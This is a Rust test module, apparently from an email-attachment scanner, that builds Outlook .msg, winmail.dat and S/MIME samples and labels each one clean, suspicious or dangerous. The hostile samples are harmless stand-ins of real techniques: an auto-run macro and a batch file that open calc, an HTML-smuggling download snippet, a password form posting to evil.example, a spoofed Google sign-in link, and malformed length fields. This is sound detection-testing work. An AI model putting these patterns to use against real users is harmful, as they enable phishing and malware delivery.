//! Hostile files in mails that are wrapped up: `.msg`, `winmail.dat`, S/MIME.

use super::Expected::{self, Clean, Dangerous, Suspicious};
use super::office::{compound, docm};
use super::packages::zip;
use super::{Samples, program};

type File<'a> = (&'a str, &'a [u8]);

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn le(number: usize) -> [u8; 4] {
    u32::try_from(number).unwrap_or(0).to_le_bytes()
}

/// A mail as Outlook saves it.
fn msg(body: &str, page: &str, attached: &[File<'_>]) -> Vec<u8> {
    let mut streams: Vec<(String, Vec<u8>)> = vec![
        ("/__properties_version1.0".into(), vec![0; 32]),
        ("/__nameid_version1.0/__substg1.0_00020102".into(), Vec::new()),
        ("/__nameid_version1.0/__substg1.0_00030102".into(), Vec::new()),
        ("/__nameid_version1.0/__substg1.0_00040102".into(), Vec::new()),
        ("/__substg1.0_001A001F".into(), utf16("IPM.Note")),
        ("/__substg1.0_0037001F".into(), utf16("Application")),
        ("/__substg1.0_0C1A001F".into(), utf16("Jane Roe")),
        ("/__substg1.0_5D01001F".into(), utf16("jane@example.org")),
        ("/__substg1.0_1000001F".into(), utf16(body)),
    ];
    if !page.is_empty() {
        streams.push(("/__substg1.0_10130102".into(), page.as_bytes().to_vec()));
    }
    for (n, (name, bytes)) in attached.iter().enumerate() {
        let folder = format!("/__attach_version1.0_#{n:08X}");
        streams.push((format!("{folder}/__properties_version1.0"), vec![0; 8]));
        streams.push((format!("{folder}/__substg1.0_3707001F"), utf16(name)));
        streams.push((format!("{folder}/__substg1.0_37010102"), bytes.to_vec()));
    }
    let borrowed: Vec<(&str, &[u8])> = streams.iter().map(|(path, bytes)| (path.as_str(), bytes.as_slice())).collect();
    compound(&borrowed)
}

fn attribute(level: u8, id: u32, value: &[u8]) -> Vec<u8> {
    let sum = value.iter().fold(0_u16, |sum, byte| sum.wrapping_add(u16::from(*byte)));
    [[level].as_slice(), &id.to_le_bytes(), &le(value.len()), value, &sum.to_le_bytes()].concat()
}

/// A mail as Outlook sends it to others.
fn tnef(body: &str, attached: &[File<'_>]) -> Vec<u8> {
    let mut bytes = b"\x78\x9f\x3e\x22\x01\0".to_vec();
    bytes.extend(attribute(1, 0x0006_9007, &[0xe4, 4, 0, 0, 0, 0, 0, 0]));
    bytes.extend(attribute(1, 0x0001_8004, b"Application\0"));
    bytes.extend(attribute(1, 0x0002_800c, format!("{body}\0").as_bytes()));
    for (name, content) in attached {
        let long = utf16(&format!("{name}\0"));
        let mut properties = [le(1).as_slice(), b"\x1f\0\x07\x37", &le(1), &le(long.len()), &long].concat();
        properties.resize(properties.len().next_multiple_of(4), 0);
        bytes.extend(attribute(2, 0x0006_9002, &[1, 0, 255, 255, 255, 255, 0, 0, 0, 0, 0, 0, 0, 0]));
        bytes.extend(attribute(2, 0x0001_8010, b"SHORT~1.DAT\0"));
        bytes.extend(attribute(2, 0x0006_800f, content));
        bytes.extend(attribute(2, 0x0006_9005, &properties));
    }
    bytes
}

/// One DER element.
fn element(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).unwrap_or(0).to_be_bytes();
    [[tag, 0x84].as_slice(), &length, content].concat()
}

/// A message of S/MIME: what it is, and its content.
fn smime(kind: u8, content: Option<&[u8]>) -> Vec<u8> {
    let number = |last: u8| [b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07".as_slice(), &[last]].concat();
    let held = content.map(|content| element(0xa0, &element(0x04, content))).unwrap_or_default();
    let inner = [b"\x02\x01\x01\x31\0".as_slice(), &element(0x30, &[number(1), held].concat())].concat();
    element(0x30, &[number(kind), element(0xa0, &element(0x30, &inner))].concat())
}

pub(super) fn add(samples: &mut Samples) {
    let macros = docm("Sub AutoOpen()\nShell \"calc\"\nEnd Sub\n");
    let (program, archive) = (program(), zip(&[("cv.exe", &program())]));
    let files: [(&str, &[u8], Expected); 7] = [
        ("cv.txt", b"Jane Roe, engineer", Clean),
        ("cv.exe", &program, Dangerous("executable")),
        ("cv.docm", &macros, Dangerous("macro-auto-run")),
        ("cv.zip", &archive, Dangerous("executable")),
        ("cv.pdf.js", b"var x = 1;", Dangerous("disguised-name")),
        ("cv.html", b"<html><script>new Blob([atob('TVo=')]);a.download='x';a.click()</script></html>", Dangerous("smuggling")),
        ("cv.lnk", &super::files::shortcut(), Dangerous("shortcut")),
    ];
    for (name, bytes, expected) in files {
        samples.add("msg", name, "application.msg", msg("My CV.", "", &[(name, bytes)]), expected);
        samples.add("tnef", name, "winmail.dat", tnef("My CV.", &[(name, bytes)]), expected);
    }
    let mut add = |family, what: &str, name: &str, bytes: Vec<u8>, expected| samples.add(family, what, name, bytes, expected);
    let form = "<html><form action=https://evil.example><input type=password></form></html>";
    add("msg", "asks for a password", "application.msg", msg("Hello", form, &[]), Dangerous("password-form"));
    let elsewhere = "<html><a href=https://evil.example/login>https://accounts.google.com/signin</a></html>";
    add("msg", "shows another address", "application.msg", msg("Hello", elsewhere, &[]), Suspicious("mismatched-link"));
    add(
        "msg",
        "in itself",
        "application.msg",
        msg("Hello", "", &[("inner.msg", &msg("Hello", "", &[("cv.exe", &program)]))]),
        Dangerous("executable"),
    );
    let whole = tnef("Hello", &[("cv.txt", b"Jane Roe")]);
    for at in [5, 20, 60, whole.len() - 4] {
        add("tnef", &format!("cut off after {at} bytes"), "winmail.dat", whole.get(..at).unwrap_or_default().to_vec(), Clean);
    }
    let mut lies = whole.clone();
    lies.splice(11..15, [255, 255, 255, 255]);
    add("tnef", "an attribute longer than all", "winmail.dat", lies, Clean);
    let many = [le(usize::MAX).as_slice(), &b"\x1e\x10\x07\x37\xff\xff\xff\xff\0\0\0\0".repeat(1_000)].concat();
    let begun = b"\x78\x9f\x3e\x22\x01\0".to_vec();
    add("tnef", "properties without end", "winmail.dat", [begun, attribute(1, 0x0006_9003, &many)].concat(), Clean);

    let part = |name: &str, body: &str| {
        format!(
            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nMy CV.\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename={name}\r\n\r\n{body}\r\n--b--\r\n"
        )
    };
    add("smime", "signed, a text", "smime.p7m", smime(2, Some(part("cv.txt", "Jane Roe").as_bytes())), Clean);
    add("smime", "signed, a script", "smime.p7m", smime(2, Some(part("cv.bat", "@echo off\r\ncalc").as_bytes())), Dangerous("script-file"));
    let begun = [b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80\x30\x80\x02\x01\x01\x31\0\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\xa0\x80\x24\x80".as_slice()].concat();
    let text = part("cv.bat", "@echo off\r\ncalc");
    let pieces: Vec<u8> = text.as_bytes().chunks(40).flat_map(|piece| [&[4, u8::try_from(piece.len()).unwrap_or(0)], piece].concat()).collect();
    add("smime", "signed, a script, in pieces", "smime.p7m", [begun, pieces, vec![0; 12]].concat(), Dangerous("script-file"));
    add("smime", "locked", "smime.p7m", smime(3, None), Suspicious("encrypted"));
    add(
        "smime",
        "locked with OpenPGP",
        "message.asc",
        b"-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n".to_vec(),
        Suspicious("encrypted"),
    );
    add("smime", "signed, and nothing in it", "smime.p7m", smime(2, Some(b"")), Clean);
}
